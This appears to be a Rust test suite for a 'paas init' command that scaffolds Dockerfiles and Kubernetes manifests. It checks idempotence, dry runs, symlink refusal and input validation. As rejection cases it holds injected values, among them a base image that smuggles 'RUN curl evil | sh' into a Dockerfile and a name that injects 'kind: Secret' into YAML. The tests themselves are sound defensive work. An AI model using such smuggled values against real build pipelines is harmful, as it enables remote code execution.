//! `paas init` on every fixture, every file it writes, and the ways it must refuse.

use std::collections::BTreeMap;

use crate::detect::FIXTURES;
use crate::paas_snapshot;
use crate::support::TestEnv;

/// The files `init` adds to a fixture: the tree after minus the tree before.
fn written(env: &TestEnv, before: &[(String, String)]) -> BTreeMap<String, String> {
    env.tree()
        .into_iter()
        .filter(|file| !before.contains(file))
        .collect()
}

#[test]
fn init_every_fixture() {
    for fixture in FIXTURES {
        let env = TestEnv::fixture(fixture);
        let before = env.tree();
        let mut command = env.paas();
        command.args(["init", "--yes", "--registry", "registry.example.com/team"]);
        if fixture == "dotnet-two-web" {
            let output = paas_snapshot!(env, &mut command, format!("init_{fixture}"));
            assert_eq!(output.status.code(), Some(2));
            assert_eq!(
                env.tree(),
                before,
                "nothing written on an ambiguous project"
            );
            continue;
        }
        let output = paas_snapshot!(env, &mut command, format!("init_{fixture}"));
        assert!(output.status.success(), "{fixture}");
        let files = written(&env, &before);
        assert!(
            files.contains_key("Dockerfile") && files.contains_key("paas.toml"),
            "{fixture}: {:?}",
            files.keys()
        );
        for (path, text) in &files {
            if let Some(name) = path.strip_prefix("deploy/") {
                // The standard templates, as they are, behind paas's marker line: the same
                // for every project, so compared with their source instead of snapshotted.
                let source = fs_err::read_to_string(
                    std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
                        .join("packs/_standard")
                        .join(name),
                )
                .expect("a standard template of that name");
                assert_eq!(
                    text,
                    &paas::scaffold::templates::mark(&source),
                    "{fixture}: {path}"
                );
                continue;
            }
            insta::assert_snapshot!(format!("init_{fixture}__{}", path.replace('/', "_")), text);
        }
        let deploy: Vec<&str> = files
            .keys()
            .filter_map(|path| path.strip_prefix("deploy/"))
            .collect();
        assert_eq!(
            deploy,
            [
                "configmap.yaml",
                "deployment.yaml",
                "hpa.yaml",
                "ingress.yaml",
                "networkpolicy.yaml",
                "pdb.yaml",
                "service.yaml"
            ],
            "{fixture}: every standard template is written"
        );
        // Running it again changes nothing, byte for byte.
        let again = env
            .paas()
            .args(["init", "--yes", "--registry", "registry.example.com/team"])
            .output()
            .expect("runs");
        assert!(
            again.status.success(),
            "{fixture}: {}",
            String::from_utf8_lossy(&again.stderr)
        );
        assert_eq!(
            written(&env, &before),
            files,
            "{fixture}: re-running init is byte-identical"
        );
    }
}

#[test]
fn init_with_every_option() {
    let env = TestEnv::fixture("static-dist");
    let before = env.tree();
    let output = paas_snapshot!(
        env,
        env.paas().args([
            "init",
            "--yes",
            "--name",
            "shop-web",
            "--port",
            "8081",
            "--registry",
            "127.0.0.1:5000/team",
            "--host",
            "shop.example.com",
            "--replicas",
            "3",
            "--set",
            "base_image=registry.corp/nginx:1.27",
        ]),
        "init_every_option"
    );
    assert!(output.status.success());
    let files = written(&env, &before);
    assert!(files.contains_key("deploy/ingress.yaml"));
    assert!(files.contains_key("deploy/pdb.yaml"));
    assert!(
        files["Dockerfile"].contains("FROM registry.corp/nginx:1.27"),
        "{}",
        files["Dockerfile"]
    );
    insta::assert_snapshot!("init_every_option__paas.toml", files["paas.toml"]);
}

#[test]
fn dry_run_writes_nothing() {
    let env = TestEnv::fixture("spa-vite");
    let before = env.tree();
    let output = env
        .paas()
        .args(["init", "--dry-run", "--name", "web"])
        .output()
        .expect("runs");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains("==> Dockerfile <==") && stdout.contains("==> deploy/deployment.yaml <=="),
        "{stdout}"
    );
    assert_eq!(env.tree(), before);
    let json = env
        .paas()
        .args(["init", "--dry-run", "--name", "web", "--output", "json"])
        .output()
        .expect("runs");
    let value: serde_json::Value = serde_json::from_slice(&json.stdout).expect("json");
    assert_eq!(value["dry_run"], true);
    assert!(
        value["files"]
            .as_array()
            .is_some_and(|f| f.iter().all(|f| f["action"] == "create"))
    );
    assert_eq!(env.tree(), before);
}

#[test]
fn existing_dockerfile_is_kept_without_force() {
    let env = TestEnv::fixture("static-dist");
    env.write("Dockerfile", "FROM mine\n");
    let before = env.tree();
    let output = paas_snapshot!(
        env,
        env.paas().args(["init", "--yes", "--name", "web"]),
        "init_existing_dockerfile"
    );
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(env.tree(), before, "the folder is as it was");
    let output = env
        .paas()
        .args(["init", "--yes", "--name", "web", "--force"])
        .output()
        .expect("runs");
    assert!(output.status.success());
    assert_ne!(env.read("Dockerfile"), "FROM mine\n");
}

#[cfg(unix)]
#[test]
fn symlinked_destination_is_refused() {
    let env = TestEnv::fixture("static-dist");
    let outside = env.temp.path().join("bashrc");
    fs_err::write(&outside, "keep me\n").expect("write");
    std::os::unix::fs::symlink(&outside, env.project.join("Dockerfile")).expect("symlink");
    let before = env.tree();
    let output = paas_snapshot!(
        env,
        env.paas()
            .args(["init", "--yes", "--name", "web", "--force"]),
        "init_symlink"
    );
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(fs_err::read_to_string(&outside).expect("read"), "keep me\n");
    assert_eq!(env.tree(), before);

    let env = TestEnv::fixture("static-dist");
    let elsewhere = env.temp.path().join("elsewhere");
    fs_err::create_dir_all(&elsewhere).expect("dir");
    std::os::unix::fs::symlink(&elsewhere, env.project.join("deploy")).expect("symlink");
    let output = env
        .paas()
        .args(["init", "--yes", "--name", "web", "--force"])
        .output()
        .expect("runs");
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(
        fs_err::read_dir(&elsewhere).expect("dir").count(),
        0,
        "nothing written through the link"
    );
    assert!(!env.project.join("Dockerfile").exists());
}

#[test]
fn read_only_folder_loses_nothing() {
    let env = TestEnv::fixture("static-dist");
    let before = env.tree();
    let guard = ReadOnly::new(&env.project);
    let output = env
        .paas()
        .args(["init", "--yes", "--name", "web"])
        .output()
        .expect("runs");
    drop(guard);
    assert_eq!(
        output.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("nothing was changed"), "{stderr}");
    assert_eq!(env.tree(), before);
}

/// Makes a folder unwritable, even for root (which ignores mode bits): `chattr +i` when
/// running as root, `chmod 555` otherwise.
struct ReadOnly(std::path::PathBuf, bool);

impl ReadOnly {
    fn new(dir: &std::path::Path) -> Self {
        let root = std::process::Command::new("id")
            .arg("-u")
            .output()
            .is_ok_and(|o| o.stdout.starts_with(b"0\n"));
        if root {
            let status = std::process::Command::new("chattr")
                .arg("+i")
                .arg(dir)
                .status()
                .expect("chattr runs");
            assert!(status.success(), "chattr +i failed");
        } else {
            std::process::Command::new("chmod")
                .arg("555")
                .arg(dir)
                .status()
                .expect("chmod runs");
        }
        Self(dir.to_owned(), root)
    }
}

impl Drop for ReadOnly {
    fn drop(&mut self) {
        if self.1 {
            let _ = std::process::Command::new("chattr")
                .arg("-i")
                .arg(&self.0)
                .status();
        } else {
            let _ = std::process::Command::new("chmod")
                .arg("755")
                .arg(&self.0)
                .status();
        }
    }
}

#[test]
fn app_names_are_normalised_or_rejected() {
    for (folder, expected) in [
        ("My_App", "my-app"),
        ("app.v2", "app-v2"),
        ("-lead", "lead"),
    ] {
        let env = TestEnv::named(folder);
        env.write("index.html", "<h1>hi</h1>\n");
        let output = env.paas().args(["init", "--yes"]).output().expect("runs");
        assert!(
            output.status.success(),
            "{folder}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        assert!(
            env.read("paas.toml")
                .contains(&format!("name = \"{expected}\"")),
            "{folder}"
        );
    }
    let long = "a".repeat(70);
    let env = TestEnv::named(&long);
    env.write("index.html", "<h1>hi</h1>\n");
    let output = env.paas().args(["init", "--yes"]).output().expect("runs");
    assert!(output.status.success());
    assert!(
        env.read("paas.toml")
            .contains(&format!("name = \"{}\"", "a".repeat(63)))
    );

    let env = TestEnv::named("ü");
    env.write("index.html", "<h1>hi</h1>\n");
    let before = env.tree();
    let output = paas_snapshot!(
        env,
        env.paas().args(["init", "--yes"]),
        "init_unusable_folder_name"
    );
    assert_eq!(output.status.code(), Some(2));
    assert_eq!(env.tree(), before);

    for bad in ["My_App", "-lead", "a\"\nkind: Secret", &"a".repeat(64), ""] {
        let env = TestEnv::named("site");
        env.write("index.html", "<h1>hi</h1>\n");
        let before = env.tree();
        let output = env
            .paas()
            .args(["init", "--yes", "--name", bad])
            .output()
            .expect("runs");
        assert_eq!(output.status.code(), Some(2), "{bad:?}");
        assert_eq!(env.tree(), before, "{bad:?}");
    }
    let env = TestEnv::named("site");
    env.write("index.html", "<h1>hi</h1>\n");
    paas_snapshot!(
        env,
        env.paas().args(["init", "--yes", "--name", "My_App"]),
        "init_invalid_name"
    );
}

#[test]
fn bad_values_are_rejected_before_writing() {
    let env = TestEnv::fixture("static-dist");
    let before = env.tree();
    for args in [
        vec!["--registry", "https://reg.example.com"],
        vec!["--host", "Shop.Example.com"],
        vec!["--set", "base_image=nginx\nRUN curl evil | sh"],
        vec!["--set", "nope=1"],
        vec!["--set", "base_image"],
        vec!["--port", "0"],
    ] {
        let output = env
            .paas()
            .args(["init", "--yes", "--name", "web"])
            .args(&args)
            .output()
            .expect("runs");
        assert_eq!(
            output.status.code(),
            Some(2),
            "{args:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        assert_eq!(env.tree(), before, "{args:?}");
    }
    paas_snapshot!(
        env,
        env.paas()
            .args(["init", "--yes", "--name", "web", "--set", "nope=1"]),
        "init_unknown_variable"
    );
}

#[test]
fn empty_folder_writes_nothing() {
    let env = TestEnv::named("empty");
    let output = paas_snapshot!(env, env.paas().args(["init", "--yes"]), "init_empty");
    assert_eq!(output.status.code(), Some(1));
    assert!(env.tree().is_empty());
}
